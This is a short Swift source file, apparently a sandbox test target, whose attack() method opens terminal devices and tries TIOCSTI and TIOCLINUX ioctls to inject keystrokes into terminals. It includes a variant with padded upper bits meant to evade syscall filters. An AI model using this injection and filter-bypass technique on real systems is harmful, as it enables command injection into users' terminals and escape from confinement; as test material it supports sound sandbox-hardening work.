import Glibc

public class Target {
    public init() {}

    public func attack() {
        for path in ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/ptmx"] {
            if open(path, O_RDWR | O_NOCTTY) >= 0 { print("opened", path) }
        }
        var letter = CChar(10)
        for number in Int32(0)..<5 {
            if ioctl(number, 0x5412, &letter) == 0 { print("typed into", number) }
            if ioctl(number, 0x541C, &letter) == 0 { print("pasted into", number) }
            // The upper half of the number is no part of the request, as far as the kernel sees.
            if ioctl(number, UInt(0xFFFF_FFFF_0000_5412), &letter) == 0 { print("typed into", number) }
        }
    }

    public func answer() { print("answered") }
}
